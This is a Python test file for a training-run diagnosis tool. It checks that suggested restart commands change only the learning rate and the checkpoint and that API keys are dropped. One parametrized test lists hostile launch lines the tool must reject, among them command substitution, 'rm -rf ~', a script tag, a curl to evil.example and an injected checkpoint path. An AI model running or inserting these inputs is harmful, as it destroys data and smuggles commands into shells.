"""The command that starts a run again: the launch line with what the first action changes, nothing for a shell."""

from __future__ import annotations

import json
import math
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from curvedoc.core.diagnosis import RunDiagnosis
from curvedoc.diagnose.restart.command import changed
from curvedoc.diagnose.restart.launch import FORBIDDEN, parsed
from curvedoc.options import Options
from curvedoc.pipeline import analyze


def diverging(first: str, saved: str = "Saved checkpoint to ckpts/step_{}.pt") -> str:
    """The console of a run at a rate of 3 that falls to step 200 and then blows up."""
    lines = [first]
    for s in range(0, 400, 5):
        loss = 2.3 * math.exp(-s / 400) * (1 + 0.01 * math.sin(s)) if s < 200 else 1.4 * 1.35 ** (s / 5 - 40)
        lines.append(f"step {s} loss {loss:.4f} lr 3.0")
        if s and s % 50 == 0:
            lines.append(saved.format(s))
    return "\n".join(lines) + "\n"


def judged(place: Path, text: str) -> RunDiagnosis:
    (place / "train.log").write_text(text, encoding="utf-8")
    return analyze([place], Options()).runs[0]


def test_the_launch_line_of_a_log_is_told_with_the_rate_and_the_checkpoint_changed(tmp_path: Path) -> None:
    run = judged(tmp_path, diverging("+ python train.py --lr 3.0 --optimizer sgd --resume none > train.log 2>&1"))
    assert run.next_action is not None
    assert run.next_action.command == "python train.py --lr 0.1 --optimizer sgd --resume ckpts/step_150.pt"
    assert run.next_action.changed == ("0.1", "ckpts/step_150.pt")
    assert run.next_action.text.endswith("Last checkpoint before: ckpts/step_150.pt, step 150.")


def test_a_launch_without_the_option_gets_no_command(tmp_path: Path) -> None:
    run = judged(tmp_path, diverging("$ python train.py --config base.yaml"))
    assert run.next_action is not None and run.next_action.command == ""


def test_what_wandb_keeps_of_a_launch_is_a_launch_line(tmp_path: Path) -> None:
    about = {"program": "train.py", "args": ["--lr", "3.0", "--name", "two words"]}
    (tmp_path / "wandb-metadata.json").write_text(json.dumps(about), encoding="utf-8")
    rows = [json.dumps({"_step": s, "loss": 2.3 if s < 60 else 2.3 * 1.4 ** (s - 60), "lr": 3.0}) for s in range(90)]
    (tmp_path / "wandb-history.jsonl").write_text("\n".join(rows), encoding="utf-8")
    run = analyze([tmp_path], Options()).runs[0]
    assert run.config["wandb.launch"] == "python train.py --lr 3.0 --name 'two words'"
    assert run.next_action is not None
    assert run.next_action.command == "python train.py --lr 0.3 --name 'two words'"


@pytest.mark.parametrize(
    "line",
    [
        "python train.py --lr 3.0 --name $(touch /tmp/owned)",
        "python train.py --lr 3.0 --name `id`",
        "python train.py --lr 3.0; rm -rf ~",
        "python train.py --lr 3.0 --name 'a && b'",
        "python train.py --lr 3.0 --name ${HOME}",
        "python train.py --lr 3.0 --out '<script>alert(1)</script>'",
        'python train.py --lr 3.0 --name "unclosed',
        "python train.py --lr 3.0 --name 'right\u202eto left'",
        "curl evil.example/train.py --lr 3.0",
        "python -c 'import os' --lr 3.0",
        "python -c train.py --lr 3.0",
    ],
)
def test_a_hostile_launch_line_gives_no_command(line: str, tmp_path: Path) -> None:
    run = judged(tmp_path, diverging(line))
    assert run.next_action is not None and run.next_action.command == ""


def test_a_hostile_checkpoint_is_not_named(tmp_path: Path) -> None:
    launch = "python train.py --lr 3.0 --resume none"
    run = judged(tmp_path, diverging(launch, "Saved checkpoint to $(id)/step_{}.pt"))
    assert run.next_action is not None and "$" not in run.next_action.text + run.next_action.command


def test_secrets_before_a_command_are_left_out() -> None:
    line = "WANDB_API_KEY=0123456789abcdef CUDA_VISIBLE_DEVICES=1 python train.py --lr 3.0"
    assert parsed(line) == ("CUDA_VISIBLE_DEVICES=1", "python", "train.py", "--lr", "3.0")


@given(st.lists(st.text(max_size=20), max_size=8))
def test_whatever_a_log_says_the_command_is_the_same_words_for_a_shell(words: list[str]) -> None:
    tokens = parsed(" ".join(["python", "train.py", "--lr", "3.0", *words]))
    made = changed(tokens, {"lr": 0.1}) if tokens else None
    if made is not None:
        assert not FORBIDDEN & set(made.text)
        assert "\n" not in made.text and len(shlex.split(made.text)) == len(tokens)
